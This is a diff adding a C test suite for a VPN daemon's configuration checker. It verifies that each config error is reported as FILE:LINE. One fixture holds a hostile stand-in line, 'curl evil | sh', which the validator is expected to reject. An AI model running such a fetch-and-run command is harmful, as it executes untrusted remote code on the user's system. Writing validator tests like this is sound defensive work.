@@ -1,0 +1,195 @@
+/* test-config-check.c - `roamvpnd --check`: every configuration error of every file
+ * printed as FILE:LINE: message, exit status non-zero on any, zero on a good setup.
+ * Runs the built daemon (ROAMVPN_BUILD_ROOT/daemon/roamvpnd); skipped without it. */
+#include "config.h"
+
+#include <glib/gstdio.h>
+#include <string.h>
+#include <sys/stat.h>
+#include <sys/wait.h>
+
+#define PRIV "uECAujy2OnmNsIekac+YA+4fhUErtwPdqZzdLbwCjlg="
+#define PUB "/OQnPMonP2LiOu0xkVgbWkKPHIDVr1VKS38u5w7ab2A="
+
+static char *daemon_path;
+static char *confdir;
+static char *plugindir;
+
+static void write_file(const char *rel, const char *text, mode_t mode)
+{
+	g_autofree char *path = g_build_filename(confdir, rel, NULL);
+	g_autofree char *dir = g_path_get_dirname(path);
+	g_autoptr(GError) error = NULL;
+
+	g_assert_cmpint(g_mkdir_with_parents(dir, 0755), ==, 0);
+	g_file_set_contents(path, text, -1, &error);
+	g_assert_no_error(error);
+	g_assert_cmpint(chmod(path, mode), ==, 0);
+}
+
+static void remove_tree(const char *dir)
+{
+	g_autoptr(GDir) d = g_dir_open(dir, 0, NULL);
+	const char *name;
+
+	while (d && (name = g_dir_read_name(d))) {
+		g_autofree char *path = g_build_filename(dir, name, NULL);
+
+		if (g_file_test(path, G_FILE_TEST_IS_DIR))
+			remove_tree(path);
+		else
+			g_assert_cmpint(g_remove(path), ==, 0);
+	}
+	g_assert_cmpint(g_rmdir(dir), ==, 0);
+}
+
+/* Run roamvpnd --check; returns its exit status, *out gets stdout + stderr. */
+static int run_check(char **out)
+{
+	const char *argv[] = { daemon_path, "--check", "--config-dir", confdir, NULL };
+	g_auto(GStrv) env = g_get_environ();
+	g_autofree char *stdout_text = NULL, *stderr_text = NULL;
+	g_autoptr(GError) error = NULL;
+	int status;
+
+	env = g_environ_setenv(env, "ROAMVPN_PLUGIN_DIR", plugindir, TRUE);
+	g_spawn_sync(NULL, (char **)argv, env, G_SPAWN_DEFAULT, NULL, NULL, &stdout_text,
+		     &stderr_text, &status, &error);
+	g_assert_no_error(error);
+	*out = g_strconcat(stdout_text, stderr_text, NULL);
+	g_test_message("roamvpnd --check said:\n%s", *out);
+	if (!WIFEXITED(status))
+		g_error("roamvpnd --check did not exit normally (status %d)", status);
+	return WEXITSTATUS(status);
+}
+
+static void assert_line(const char *out, const char *rel_and_message)
+{
+	g_autofree char *line = g_strdup_printf("%s/%s\n", confdir, rel_and_message);
+
+	if (!strstr(out, line))
+		g_error("missing in --check output: %s", line);
+}
+
+static gboolean skip_without_daemon(void)
+{
+	if (!daemon_path) {
+		g_test_skip("roamvpnd not built");
+		return TRUE;
+	}
+	return FALSE;
+}
+
+static void test_good_configuration(void)
+{
+	g_autofree char *out = NULL;
+
+	if (skip_without_daemon())
+		return;
+	write_file("roamvpn.conf", "[General]\nDNS=file\nDebounceMs=100\n", 0644);
+	write_file("tunnels/corp.conf", "[Interface]\nPrivateKey = " PRIV "\nDNS = 10.0.0.1, corp.example\n"
+		   "[Peer]\nPublicKey = " PUB "\nEndpoint = 192.0.2.1:51820\nAllowedIPs = 0.0.0.0/0\n", 0600);
+	write_file("tunnels/script.conf", "[Tunnel]\nBackend=exec\nDNS=10.9.9.9\n[exec]\nStart=/bin/sleep 1000\n",
+		   0644);
+	write_file("rules/10-home.rules", "[Match]\nSSID=HomeNet\nGateway=00:11:22:33:44:55\n"
+		   "[Action]\nDisconnect=all\n", 0644);
+	write_file("rules/50-wifi.rules", "[Match]\nType=wlan\nSSID=!\"Office 5G\" !a\\x00b\n"
+		   "[Action]\nConnect=corp\n", 0644);
+	write_file("rules/60-wired.rules", "[Match]\nType=ether\n[Action]\nConnect=script\n", 0644);
+
+	g_assert_cmpint(run_check(&out), ==, 0);
+	remove_tree(confdir);
+}
+
+static void test_empty_configuration(void)
+{
+	g_autofree char *out = NULL;
+
+	if (skip_without_daemon())
+		return;
+	g_assert_cmpint(g_mkdir(confdir, 0755), ==, 0);
+	g_assert_cmpint(run_check(&out), ==, 0);
+	remove_tree(confdir);
+}
+
+static void test_every_error_reported(void)
+{
+	g_autofree char *out = NULL;
+
+	if (skip_without_daemon())
+		return;
+	write_file("roamvpn.conf", "[General]\nDNS=bogus\n", 0644);
+	/* A secret-holding file readable by others, and a bad key in it. */
+	write_file("tunnels/corp.conf", "[Interface]\nPrivateKey = " PRIV "\nMTU = 9\n"
+		   "PostUp = curl evil | sh\n", 0644);
+	write_file("tunnels/script.conf", "[Tunnel]\nBackend=exec\n[exec]\nStop=/bin/true\n", 0644);
+	write_file("rules/10-bad.rules", "[Match]\nSSID=\"HomeNet\nBogus=1\n[Action]\nConnect=crop\n", 0644);
+	write_file("rules/20-ok.rules", "[Action]\nIgnore=yes\n", 0644);
+	write_file("rules/30-bad.rules", "[Match]\nType=wlan\n", 0644);
+
+	g_assert_cmpint(run_check(&out), !=, 0);
+	assert_line(out, "roamvpn.conf:2: DNS=: 'bogus' is not auto, file, resolvconf or resolved");
+	assert_line(out, "tunnels/corp.conf:3: MTU=: '9' is not a number from 576 to 65535");
+	assert_line(out, "tunnels/corp.conf:4: PostUp= is a shell command line and roamvpn never runs "
+		    "those; remove it (DNS= and routes are applied by roamvpn, or write an exec tunnel)");
+	assert_line(out, "tunnels/corp.conf: holds secrets but is accessible by group or others "
+		    "(mode 0644); chmod 600 it");
+	assert_line(out, "tunnels/script.conf:3: [exec] needs Start=");
+	assert_line(out, "rules/10-bad.rules:2: SSID=: unterminated quote");
+	assert_line(out, "rules/10-bad.rules:3: unknown key Bogus= in [Match] "
+		    "(known: Name, Type, SSID, BSSID, Gateway, Carrier)");
+	assert_line(out, "rules/30-bad.rules:1: no [Action] section "
+		    "(need Connect=TUNNEL, Disconnect=TUNNEL|all or Ignore=yes)");
+	/* The secret never leaks into the output. */
+	g_assert_null(strstr(out, PRIV));
+	remove_tree(confdir);
+}
+
+static void test_unknown_tunnel(void)
+{
+	g_autofree char *out = NULL;
+
+	if (skip_without_daemon())
+		return;
+	write_file("tunnels/corp.conf", "[Tunnel]\nBackend=exec\n[exec]\nStart=/bin/true\n", 0644);
+	write_file("rules/50-wifi.rules", "[Match]\nType=wlan\n[Action]\nConnect=crop\n", 0644);
+	g_assert_cmpint(run_check(&out), !=, 0);
+	assert_line(out, "rules/50-wifi.rules:4: Connect=: unknown tunnel 'crop' (no tunnels/crop.conf)");
+	remove_tree(confdir);
+}
+
+int main(int argc, char **argv)
+{
+	const char *build = g_getenv("ROAMVPN_BUILD_ROOT");
+	g_autoptr(GError) error = NULL;
+	g_autofree char *top = NULL;
+	int ret;
+
+	g_test_init(&argc, &argv, NULL);
+	if (build) {
+		daemon_path = g_build_filename(build, "daemon", "roamvpnd", NULL);
+		if (!g_file_test(daemon_path, G_FILE_TEST_IS_EXECUTABLE))
+			g_clear_pointer(&daemon_path, g_free);
+	}
+	top = g_dir_make_tmp("roamvpn-check-XXXXXX", &error);
+	g_assert_no_error(error);
+	confdir = g_build_filename(top, "etc", NULL);
+	plugindir = g_build_filename(top, "plugins", NULL);	/* empty: no plugins */
+	g_assert_cmpint(g_mkdir(plugindir, 0755), ==, 0);
+
+	g_test_add_func("/config-check/good", test_good_configuration);
+	g_test_add_func("/config-check/empty", test_empty_configuration);
+	g_test_add_func("/config-check/every-error", test_every_error_reported);
+	g_test_add_func("/config-check/unknown-tunnel", test_unknown_tunnel);
+	ret = g_test_run();
+
+	g_assert_cmpint(g_rmdir(plugindir), ==, 0);
+	if (g_rmdir(top) < 0) {
+		g_printerr("leftover files in %s\n", top);
+		ret = 1;
+	}
+	g_free(daemon_path);
+	g_free(confdir);
+	g_free(plugindir);
+	return ret;
+}
